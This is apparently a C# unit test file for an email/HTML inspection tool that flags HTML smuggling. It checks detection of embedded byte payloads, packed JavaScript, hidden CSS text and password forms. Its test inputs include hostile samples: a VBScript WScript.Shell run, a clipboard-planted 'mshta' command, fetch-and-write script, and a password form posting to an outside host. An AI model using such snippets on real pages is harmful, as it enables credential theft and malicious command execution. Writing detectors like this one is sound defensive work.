using System.Text;
using Sekisho.Inspect.Html;

namespace Sekisho.Inspect.Tests.Html;

public sealed class ScriptTricksTests
{
    /// <summary>Of letters of both cases and digits.</summary>
    private static readonly string Packed = string.Concat(Enumerable.Repeat("TVqQAAMzAbCd90xY", 120));

    private static string Ways(string html) => string.Join(',', Smuggling.In(HtmlReader.Read(html, CancellationToken.None)).Ways);

    private static string Numbers(int count, Func<int, string> write) => string.Join(',', Enumerable.Range(0, count).Select(write));

    [Fact]
    public void Content_in_a_row_of_numbers_is_found_at_the_limit_and_not_below()
    {
        Assert.Equal("payload", Ways($"<script>f(new Uint8Array([{Numbers(500, n => $"{n % 256}")}]))</script>"));
        Assert.Equal("", Ways($"<script>f(new Uint8Array([{Numbers(499, n => $"{n % 256}")}]))</script>"));
        Assert.Equal("payload", Ways($"<script>f([77,90,{Numbers(500, n => $"0x{n % 256:x2}")}])</script>"));
    }

    [Fact]
    public void Measurements_and_colours_are_no_content()
    {
        Assert.Equal("", Ways($"<script>plot([{Numbers(2000, n => $"{n % 90}")}])</script>"));
        Assert.Equal("", Ways($"<script>plot(new Float64Array([{Numbers(2000, n => $"{n % 90}.5")}]), Uint8Array)</script>"));
        Assert.Equal("", Ways($"<script>plot(new Uint8Array(9), [{Numbers(2000, n => $"{n + 300}")}])</script>"));
        Assert.Equal("", Ways($"<script>var hashes=[{Numbers(100, _ => "'0123456789abcdef0123456789abcdef'")}]</script>"));
    }

    [Fact]
    public void Content_in_pieces_is_found()
    {
        var pieces = string.Join("'+'", Packed.Chunk(48).Select(piece => new string(piece)));
        Assert.Contains("payload", Ways($"<script>x='{pieces}';f(x)</script>"), StringComparison.Ordinal);
        Assert.Contains("payload", Ways($"<script>x=['{pieces.Replace("+", ",", StringComparison.Ordinal)}'].join('')</script>"), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<script>WebAssembly.instantiate(b)</script>", "program")]
    [InlineData("<script language=vbscript>CreateObject(\"WScript.Shell\").Run \"calc\"</script>", "program")]
    [InlineData("<script>eval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|')))</script>", "packed")]
    [InlineData("<script>_0x1a=1;_0x1b=2;_0x1c=3;_0x1d=4;_0x1e=5;_0x1f=6;</script>", "packed")]
    [InlineData("<script>x['wri'+'te']('\\u003cform\\u003e')</script>", "written form")]
    [InlineData("<script>document.write('<form action=https://example.net/><input>')</script>", "written form")]
    [InlineData("<button onclick=\"navigator.clipboard.writeText('mshta https://example.net/')\">x</button>", "clipboard")]
    [InlineData("<script>fetch('https://example.net/').then(r=>r.text()).then(t=>document.write(t))</script>", "fetched")]
    [InlineData("<button onclick=\"navigator.clipboard.writeText('https://example.net/')\">Copy</button>", "")]
    [InlineData("<script>list.innerHTML='<input type=checkbox>'</script>", "")]
    [InlineData("<p>run mshta and clipboard.writeText, eval(function(p,a,c,k,e</p>", "")]
    public void A_page_is_told_by_its_ways(string html, string ways) => Assert.Equal(ways, Ways(html));

    [Fact]
    public void A_script_of_nothing_but_brackets_is_packed()
    {
        Assert.Equal("packed", Ways($"<script>{string.Concat(Enumerable.Repeat("[][(![]+[])[+[]]", 40))}</script>"));
        Assert.Equal("", Ways("<script>[][(![]+[])[+[]]</script>"));
    }

    [Fact]
    public void Content_stored_in_the_page_counts_and_pictures_do_not()
    {
        Assert.True(ScriptTricks.HasStoredPayload($"<p>{new string(' ', 777)}<div data-x='{Packed}'></div>"));
        Assert.True(ScriptTricks.HasStoredPayload(Packed.AsSpan(0, 1_500)));
        Assert.False(ScriptTricks.HasStoredPayload(Packed.AsSpan(0, 1_499)));
        Assert.False(ScriptTricks.HasStoredPayload($"<img src='data:image/png;base64,{Packed}'>"));
        Assert.False(ScriptTricks.HasStoredPayload($"<hr>{new string('=', 4_000)}"));
    }

    [Fact]
    public async Task A_page_within_a_frame_is_looked_at()
    {
        var page = "<html><body><iframe srcdoc=\"&lt;form action=https://collect.example.net/&gt;&lt;input type=password&gt;&lt;/form&gt;\"></iframe>";
        var verdict = await Inspecting.MessageAsync(Inspecting.WithAttachment("a.html", Encoding.UTF8.GetBytes(page), "text/html"));
        Assert.Equal(1L, verdict.Fact("html.attached_passwords"));
        Assert.Contains("https://collect.example.net/", verdict.List("html.forms_away"));
        Assert.Equal(Sekisho.Inspect.Verdicts.Disposition.Quarantine, verdict.Disposition);
    }

    [Fact]
    public async Task A_page_in_an_address_is_looked_at_without_base64_as_well()
    {
        var page = "<html><body><a href='data:text/html,%3Ca%20href=https://collect.example.net/%3Ex'>x</a>";
        var verdict = await Inspecting.MessageAsync(Inspecting.WithAttachment("a.html", Encoding.UTF8.GetBytes(page), "text/html"));
        Assert.Contains("https://collect.example.net/", verdict.List("links.urls"));
    }

    [Theory]
    [InlineData("dis/* x */play: none")]
    [InlineData("d\\69splay: n\\6f ne")]
    [InlineData("transform: scale(0)")]
    [InlineData("clip-path: inset(100%)")]
    [InlineData("position:absolute; clip: rect(0, 0, 0, 0)")]
    [InlineData("filter: alpha(opacity=0)")]
    public void Rarer_ways_to_hide_a_text_hide_it(string style) => Assert.Equal("seen", HtmlReader.Read($"<p>seen</p><p style='{style}'>hidden</p>", CancellationToken.None).VisibleText);

    [Theory]
    [InlineData("transform: scale(1.2)")]
    [InlineData("clip-path: inset(10px)")]
    [InlineData("clip: rect(0, 200px, 40px, 0)")]
    [InlineData("clip: auto")]
    [InlineData("filter: opacity(0.9)")]
    [InlineData("font-family: 'a\\\\b'; /* display: none */")]
    public void Honest_styles_hide_nothing(string style) => Assert.Contains("seen too", HtmlReader.Read($"<p>seen</p><p style=\"{style}\">seen too</p>", CancellationToken.None).VisibleText, StringComparison.Ordinal);
}
